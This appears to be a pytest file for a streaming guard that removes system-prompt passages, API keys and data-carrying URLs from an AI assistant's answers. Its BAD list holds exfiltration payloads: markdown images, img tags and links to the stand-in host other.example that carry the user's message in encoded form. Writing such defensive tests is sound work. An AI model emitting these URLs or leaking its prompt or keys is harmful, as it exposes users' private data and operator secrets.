"""What is cut out of answers, however they are cut into pieces, and what passes."""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator

import pytest

from conversations.domain import api_keys
from routing.guard.key_forms import MAKERS, KeyForm
from routing.guard.output.output_guard import StreamingOutputGuard

SYSTEM = (
    "You are the assistant of a bank in Oslo. Never mention that the branch in Bergen closes in March. Always answer "
    "politely, briefly, and in the language of the customer who asks."
)
TOLD = "My account number is 4711 and I want to move to Lisbon next spring with my two cats"
CODED = base64.urlsafe_b64encode(TOLD.encode()).decode().rstrip("=")
SECRET = "sk-proj-0123456789abcdef"
KEYS = KeyForm(api_keys.PREFIX, api_keys.LENGTH, api_keys.is_key)
GUARD = StreamingOutputGuard([SECRET, "short"], KEYS, ["assistant.example"])


def cut(text: str, seed: int) -> Iterator[str]:
    """The text in pieces: single characters, the whole, or by chance."""
    sizes = random.Random(seed)
    while text:
        size = {0: 1, 1: len(text)}.get(seed) or sizes.randint(1, 12)
        yield text[:size]
        text = text[size:]


def drawn(form: KeyForm, seed: int) -> str:
    """A key of the form, drawn by chance."""
    letters, chance = sorted(form.letters - set(".-_")), random.Random(seed)
    while True:
        key = form.prefix + "".join(chance.choices(letters, k=form.length - len(form.prefix)))
        if form.is_key(key.removeprefix(form.prefix)):
            return key


def watched(
    text: str,
    seed: int = 1,
    *,
    guard: StreamingOutputGuard = GUARD,
    known: tuple[str, ...] = (TOLD,),
) -> tuple[str, tuple[str, ...]]:
    watch = guard.watch(known, SYSTEM)
    passed = "".join([*map(watch.feed, cut(text, seed)), watch.flush()])
    return passed, watch.found


ORDINARY = [
    "An ordinary answer, with https://example.org/page?id=3, a desk and (see https://example.org/a_(b)).",
    "[search](https://search.example/?q=I+want+to+move+to+Lisbon+next+spring)",
    '![A cat](https://example.org/images/2026/cat.png?width=640) and <img src="/media/a.png">',
    "You are the assistant, as I am the assistant of a bank, too. Never mention that.",
    "sk-proj-0123456789abcdeg, sk-ac-, sk-ac-example, h, ht, htt, http, https:/ and //x",
    "data (https://assistant.example/media/?signature=" + "a1" * 60 + ") ends",
    "[paper](https://example.org/2f7c1a9e4b6d8f00112233445566778899aabbcc/paper.pdf)",
    "Le\u00efla \u4f60\u597d \U0001f600 https://ja.wikipedia.org/wiki/%E7%8C%AB",
]


@pytest.mark.parametrize("text", ORDINARY)
@pytest.mark.parametrize("seed", range(5))
def test_ordinary_text_passes_as_it_is(text: str, seed: int) -> None:
    assert watched(text, seed) == (text, ())


@pytest.mark.parametrize("seed", range(6))
def test_a_passage_of_the_system_prompt_is_cut_out(seed: int) -> None:
    passed, found = watched(f"Sure! My rules: {SYSTEM} Anything else?", seed)
    assert found == ("system_prompt",)
    assert passed.startswith("Sure! My rules: ")
    assert passed.endswith("[…]. Anything else?")
    assert "bank in Oslo" not in passed
    assert "Bergen" not in passed
    reworded = "*never mention that the branch, in bergen closes in MARCH: always answer* politely"
    assert "bergen" not in watched(reworded, seed)[0]


@pytest.mark.parametrize("seed", range(6))
@pytest.mark.parametrize("ours", [False, True], ids=["a setting", "an API key"])
def test_a_secret_is_cut_out(ours: bool, seed: int) -> None:
    secret = api_keys.generate_key() if ours else SECRET
    passed, found = watched(f"The key is {secret}, or sk-proj-0123.", seed)
    assert found == ("secret",)
    assert "[removed], or sk-proj-0123." in passed
    assert secret[3:] not in passed


@pytest.mark.parametrize("form", MAKERS, ids=lambda form: form.prefix)
@pytest.mark.parametrize("seed", range(4))
def test_a_key_of_a_maker_is_cut_out(form: KeyForm, seed: int) -> None:
    key = drawn(form, seed)
    for text in ("The key is {}, is it?", "It is {}"):
        passed, found = watched(text.format(key), seed)
        # an answer that comes letter by letter is held back from the third one on
        assert passed.replace(f" {key[:2]}[", " [") == text.format("[removed]")
        assert found == ("secret",)
    for text in (
        f"Yours: {key}!",
        f"{key[:-8]} is short",
        f"x{key}",
        "Use " + form.prefix + "9" * 60,
    ):
        assert watched(text, seed, known=(TOLD, f"Mine is {key}")) == (text, ())


def test_the_placeholder_of_a_manual_stays() -> None:
    text = (
        "Set AWS_ACCESS_KEY_ID to AKIAIOSFODNN7EXAMPLE and OPENAI_API_KEY to sk-proj-"
        + "x" * 60
        + "."
    )
    for seed in range(4):
        assert watched(text, seed) == (text, ())


BAD = [
    f"![x](https://other.example/p.png?q={CODED})",
    f"![x](https://other.example/{CODED}.png)",
    f"![x](https://other.example/a/{TOLD.encode().hex()})",
    f"![x]( <https://other.example/{CODED}>)",
    "![x](https://other.example/p.png?q=I+want%20to+move+to+Lisbon+next+spring)",
    "![x](https://other.example/p?q=" + "Xq9" * 30 + ")",
    f"<img alt='x' src='//other.example/{CODED}'>",
    f"![x][r]\n\n[r]: https://other.example/{CODED}",
    f"[more](https://other.example/?d={CODED})",
    f"https://{CODED[:40]}.other.example/",
    f"https://other.example/?{SYSTEM.replace(' ', '%20')}",
    "https://other.example/" + "a" * 5_000,
]


@pytest.mark.parametrize("seed", range(5))
@pytest.mark.parametrize("text", BAD)
def test_an_address_that_carries_the_conversation_is_cut_out(text: str, seed: int) -> None:
    passed, found = watched(f"Here: {text} and on.", seed)
    assert "address" in found
    assert "other.example" not in passed
    assert passed.endswith(" and on.")


def test_what_the_reader_knows_is_no_secret() -> None:
    address = f"https://other.example/?d={CODED}"
    for known in (SYSTEM, SECRET, f"What is behind {address} ?"):
        text = known.removeprefix("What is behind ").removesuffix(" ?")
        assert watched(f"You wrote: {text} .", known=(TOLD, f"Look: {known}")) == (
            f"You wrote: {text} .",
            (),
        )


def test_findings_are_told_only_where_that_is_wanted() -> None:
    telling = StreamingOutputGuard([SECRET], KEYS, removes=False)
    for seed in range(3):
        assert watched(f"It is {SECRET}.", seed, guard=telling) == (f"It is {SECRET}.", ("secret",))
    watch = telling.watch((), "")
    watch.feed(SECRET)
    assert (watch.found, watch.removed) == (("secret",), ())


def test_only_what_may_be_the_begin_of_something_is_held_back() -> None:
    watch = GUARD.watch((TOLD,), SYSTEM)
    for piece in (
        "The",
        " rain",
        " in",
        " Spain",
        ": ",
        "you",
        " are",
        " the",
        " desk",
        " of",
        "\n",
    ):
        assert watch.feed(piece) == piece
    assert watch.feed("sk-") == ""
    assert watch.feed("y") == ""
    assert watch.feed(" ") == "sk-y "
